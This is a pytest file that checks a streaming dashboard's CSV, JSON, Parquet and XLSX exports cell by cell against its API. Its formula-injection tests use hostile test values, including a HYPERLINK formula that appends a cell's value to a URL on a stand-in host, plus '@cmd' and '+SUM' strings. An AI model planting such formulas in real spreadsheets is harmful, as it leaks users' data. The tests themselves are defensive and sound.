"""Exports read back cell by cell and compared with the series API, in every format."""

from __future__ import annotations

import io
import json
from dataclasses import replace
from datetime import datetime
from zoneinfo import ZoneInfo

import openpyxl
import pandas as pd
import pytest

from contract.registry import Segment
from dashboard.exceptions import BadParameter
from dashboard.exports import COLUMNS, parse_export_request, render_export
from tests.dashboard.builders import T0, VIEWER_TOKEN

BEARER = {"Authorization": f"Bearer {VIEWER_TOKEN}"}
RANGE = f"from={T0 * 1000}&to={(T0 + 25) * 1000}"
ZH_HEADERS = [
    "时间",
    "平台代码",
    "平台名称",
    "在线人数",
    "峰值在线人数",
    "观看人次",
    "观众人数",
    "新增观看人次",
    "节目",
]
OPENING = Segment("opening", "carnival", T0 + 10, "开幕式", "Opening")
NAMES = {
    "en": {"total": "Total", "douyin": "Douyin", "bili": "Bilibili", "quiet": "Quiet TV"},
    "zh": {"total": "合计", "douyin": "抖音", "bili": "哔哩哔哩", "quiet": "安静台"},
}


@pytest.fixture
def sample_snapshot(sample_snapshot):
    """The sample data with a programme: one segment from the second bucket on."""
    reg = sample_snapshot.registry
    return replace(
        sample_snapshot, registry=replace(reg, segments={("carnival", "opening"): OPENING})
    )


@pytest.fixture
def client(app_and_data):
    app, _ = app_and_data
    return app.server.test_client()


def _cells(row) -> list:
    """A spreadsheet row's values, the time as the API writes it (the wall-clock time in
    the stream's zone, +08:00); an empty cell (an empty text written) reads as None."""
    values = ["" if v is None else v for v in row]
    if isinstance(values[0], datetime):
        values[0] = values[0].replace(tzinfo=ZoneInfo("Asia/Shanghai")).isoformat()
    return values


def _title_at(start: str, segments: list[dict], lang: str) -> str:
    for s in segments:
        if s["start"] <= start and (s["end"] is None or start < s["end"]):
            return s["title_en"] if lang == "en" and s["title_en"] else s["title"]
    return ""


def expected_rows(client, resolution="10s", lang="en"):
    """The rows an export must hold, built from the series API's JSON."""
    url = f"/api/v1/streams/carnival/series?resolution={resolution}&{RANGE}"
    body = client.get(url, headers=BEARER).json
    programme = client.get("/api/v1/streams/carnival/segments", headers=BEARER).json["segments"]
    rows = []
    for bucket in body["buckets"]:
        parts = [("total", bucket["total"])] + sorted(bucket["platforms"].items())
        for pid, b in parts:
            rows.append(
                [
                    bucket["start"],
                    pid,
                    NAMES[lang][pid],
                    b["concurrent"],
                    b["peak_concurrent"],
                    b["views"],
                    b["uniques"],
                    b["new_views"],
                    _title_at(bucket["start"], programme, lang),
                ]
            )
    return rows


def export(client, fmt, lang="en", resolution="10s"):
    url = (
        f"/api/v1/streams/carnival/export?format={fmt}&resolution={resolution}&lang={lang}&{RANGE}"
    )
    response = client.get(url, headers=BEARER)
    assert response.status_code == 200, response.get_data(as_text=True)
    return response


def test_csv_matches_the_series_cell_by_cell(client):
    response = export(client, "csv")
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert disposition == 'attachment; filename="livetally_carnival_10s_20241221-1100Z.csv"'
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM so Excel reads UTF-8
    frame = pd.read_csv(
        io.BytesIO(raw), encoding="utf-8-sig", dtype={"platform": str}, keep_default_na=False
    )
    assert list(frame.columns) == list(COLUMNS)
    expected = expected_rows(client)
    assert len(expected) == 3 * 3  # three buckets: the total and the two partners with data
    assert frame.values.tolist() == expected
    assert expected[0][:4] == ["2024-12-21T19:00:00+08:00", "total", "Total", 11]


def test_csv_in_chinese_has_chinese_headers_and_names(client):
    frame = pd.read_csv(
        io.BytesIO(export(client, "csv", lang="zh").get_data()),
        encoding="utf-8-sig",
        keep_default_na=False,
    )
    assert list(frame.columns) == ZH_HEADERS
    assert frame.values.tolist() == expected_rows(client, lang="zh")


def test_json_matches_the_series(client):
    response = export(client, "json")
    assert response.mimetype == "application/json"
    records = json.loads(response.get_data())
    assert [[r[c] for c in COLUMNS] for r in records] == expected_rows(client)


def test_parquet_matches_the_series_with_typed_times_and_integer_counts(client):
    import pyarrow as pa
    import pyarrow.parquet as pq

    response = export(client, "parquet", lang="zh")
    table = pq.read_table(io.BytesIO(response.get_data()))
    assert table.schema.field("时间").type == pa.timestamp("ms", tz="Asia/Shanghai")
    assert table.schema.field("在线人数").type == pa.int64()
    frame = table.to_pandas()
    assert list(frame.columns) == ZH_HEADERS
    frame["时间"] = [t.isoformat() for t in frame["时间"]]
    assert frame.values.tolist() == expected_rows(client, lang="zh")


def test_duckdb_reads_the_parquet_time_as_a_timestamp(client, tmp_path):
    import duckdb

    path = tmp_path / "export.parquet"
    path.write_bytes(export(client, "parquet", lang="zh").get_data())
    con = duckdb.connect()
    con.execute("SET TimeZone = 'UTC'")
    query = 'SELECT typeof(min("时间")), min("时间") FROM read_parquet(?)'
    kind, first = con.execute(query, [str(path)]).fetchone()
    assert kind == "TIMESTAMP WITH TIME ZONE"
    assert first.timestamp() == T0


def test_xlsx_data_sheet_header_format_and_summary_sheet(client):
    response = export(client, "xlsx", lang="en")
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    assert book.sheetnames == ["Data", "Summary"]
    data = book["Data"]
    rows = [_cells(r) for r in data.iter_rows(values_only=True)]
    assert rows[0] == list(COLUMNS)
    assert rows[1:] == expected_rows(client)
    assert data["A1"].font.bold and data["A1"].fill.fgColor.rgb.endswith("1B1F29")
    assert isinstance(data["A2"].value, datetime) and data["A2"].is_date
    assert data["A2"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert data.freeze_panes == "A2"
    assert data.column_dimensions["A"].width >= 25
    summary = {r[0]: r[1] for r in book["Summary"].iter_rows(values_only=True) if r and r[0]}
    api = client.get(f"/api/v1/streams/carnival/summary?at={(T0 + 25) * 1000}", headers=BEARER).json
    assert summary["Peak"] == api["total"]["peak_concurrent"] == 12
    assert summary["Peak at"] == api["total"]["peak_at"]
    assert summary["Views"] == api["total"]["views"]
    assert summary["Uniques"] == api["total"]["uniques"]
    assert summary["From"] == "2024-12-21T19:00:00+08:00"
    texts = [r[0] for r in book["Summary"].iter_rows(values_only=True) if r and r[0]]
    assert "Methodology" in texts
    assert "# How livetally counts (methodology)" in texts


def test_xlsx_in_chinese_names_its_sheets_and_headers_in_chinese(client):
    book = openpyxl.load_workbook(io.BytesIO(export(client, "xlsx", lang="zh").get_data()))
    assert book.sheetnames == ["数据", "概要与口径"]
    rows = [_cells(r) for r in book["数据"].iter_rows(values_only=True)]
    assert rows[0] == ZH_HEADERS
    assert rows[1:] == expected_rows(client, lang="zh")
    texts = [r[0] for r in book["概要与口径"].iter_rows(values_only=True) if r and r[0]]
    assert "统计口径" in texts and "# 统计口径（摘要）" in texts


def test_hour_resolution_and_default_range(client):
    response = export(client, "json", resolution="1h")
    records = json.loads(response.get_data())
    assert [r["time"] for r in records if r["platform"] == "total"] == ["2024-12-21T19:00:00+08:00"]
    whole = client.get(
        "/api/v1/streams/carnival/export?format=json&resolution=10s&lang=en", headers=BEARER
    )
    starts = [r["time"] for r in json.loads(whole.get_data()) if r["platform"] == "total"]
    # The data's first change (T0) through its last (T0+20), not through "now".
    assert starts == [
        "2024-12-21T19:00:00+08:00",
        "2024-12-21T19:00:10+08:00",
        "2024-12-21T19:00:20+08:00",
    ]


@pytest.mark.parametrize(
    ("query", "name"),
    [
        ("format=pdf", "format"),
        ("resolution=2h", "resolution"),
        ("lang=fr", "lang"),
        ("from=yesterday", "from"),
        (f"from={(T0 + 30) * 1000}&to={T0 * 1000}", "from"),
        (f"resolution=1s&from={T0 * 1000}&to={(T0 + 86_400) * 1000}", "resolution"),
    ],
)
def test_bad_export_parameters_are_400_problems(client, query, name):
    response = client.get(f"/api/v1/streams/carnival/export?{query}", headers=BEARER)
    assert response.status_code == 400
    assert response.mimetype == "application/problem+json"
    assert f"'{name}'" in response.json["detail"]


def test_export_needs_a_token_and_a_known_stream(client):
    assert client.get("/api/v1/streams/carnival/export").status_code == 401
    assert client.get("/api/v1/streams/nope/export", headers=BEARER).status_code == 404


def test_render_export_is_the_same_bytes_as_the_route(client, sample_snapshot):
    request = parse_export_request(
        "carnival",
        {
            "format": "csv",
            "resolution": "10s",
            "lang": "en",
            "from": str(T0 * 1000),
            "to": str((T0 + 25) * 1000),
        },
        "Asia/Shanghai",
    )
    direct = render_export(sample_snapshot, request, T0 + 100)
    assert direct.content == export(client, "csv").get_data()


def test_parse_export_request_defaults():
    request = parse_export_request("carnival", {}, "Asia/Shanghai")
    assert (request.fmt, request.resolution, request.lang, request.start, request.end) == (
        "csv",
        "1m",
        "zh",
        None,
        None,
    )
    with pytest.raises(BadParameter):
        parse_export_request("carnival", {"to": ""}, "Asia/Shanghai")


FORMULA = '=HYPERLINK("http://x/?"&D3,"open")'


@pytest.fixture
def formula_snapshot():
    from contract.registry import Partner, Registry, Stream
    from tests.dashboard.builders import build, chunk

    reg = Registry.of(
        [
            Stream("carnival", "+SUM(1,2)", "Asia/Shanghai"),
            Partner("douyin", FORMULA, FORMULA),
            Partner("bili", "@cmd", "-2+3"),
        ]
    )
    return build(
        [chunk("douyin", 0, {T0: (3, 3, 2)}), chunk("bili", 0, {T0 + 1: (5, 5, 5)})], reg=reg
    )


def formula_export(snapshot, fmt):
    request = parse_export_request(
        "carnival",
        {
            "format": fmt,
            "resolution": "10s",
            "lang": "en",
            "from": str(T0 * 1000),
            "to": str((T0 + 9) * 1000),
        },
        "Asia/Shanghai",
    )
    return render_export(snapshot, request, T0 + 60).content


@pytest.mark.parametrize(
    ("text", "inert"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("douyin", "douyin"),
        ("2024-12-21T19:00:00+08:00", "2024-12-21T19:00:00+08:00"),
        ("", ""),
    ],
)
def test_inert_text_prefixes_formula_triggers(text, inert):
    from dashboard.exports import inert_text

    assert inert_text(text) == inert


def test_formula_looking_names_are_plain_text_in_csv(formula_snapshot):
    import csv

    rows = list(
        csv.reader(io.StringIO(formula_export(formula_snapshot, "csv").decode("utf-8-sig")))
    )
    names = {row[1]: row[2] for row in rows[1:]}
    assert names["douyin"] == "'" + FORMULA
    assert names["bili"] == "'-2+3"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_formula_looking_names_are_string_cells_in_xlsx(formula_snapshot):
    book = openpyxl.load_workbook(io.BytesIO(formula_export(formula_snapshot, "xlsx")))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = {c.value for c in cells}
    assert FORMULA in values and "-2+3" in values and "+SUM(1,2)" in values
    douyin = [c for c in cells if c.value == FORMULA]
    assert douyin and all(c.data_type == "s" for c in douyin)


def test_json_and_parquet_keep_names_as_given(formula_snapshot):
    rows = json.loads(formula_export(formula_snapshot, "json"))
    assert {r["platform_name"] for r in rows} >= {FORMULA, "-2+3"}
    frame = pd.read_parquet(io.BytesIO(formula_export(formula_snapshot, "parquet")))
    assert FORMULA in set(frame["platform_name"])


def test_control_characters_in_names_do_not_break_an_xlsx_export():
    """The registry topic may hold names no form would accept; Excel refuses them."""
    from contract.registry import Partner, Registry, Stream
    from tests.dashboard.builders import build, chunk

    reg = Registry.of(
        [Stream("carnival", "title\x07", "Asia/Shanghai"), Partner("douyin", "a\x00b", "c\x1bd")]
    )
    snapshot = build([chunk("douyin", 0, {T0: (3, 3, 2)})], reg=reg)
    book = openpyxl.load_workbook(io.BytesIO(formula_export(snapshot, "xlsx")))
    values = {c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row}
    assert "c\ufffdd" in values


def test_each_bucket_is_labelled_with_the_segment_on_at_its_start():
    from dashboard.exports import segment_titles

    dance = Segment("dance", "carnival", T0 + 30, "街舞", end=T0 + 40)
    starts = [T0, T0 + 10, T0 + 29, T0 + 30, T0 + 39, T0 + 40, T0 + 50]
    assert segment_titles(starts, [dance, OPENING], "en") == [
        "",
        "Opening",
        "Opening",
        "街舞",  # no English title: the Chinese one
        "街舞",
        "",  # after the dance's own end
        "",
    ]
    assert segment_titles(starts, [], "zh") == [""] * 7
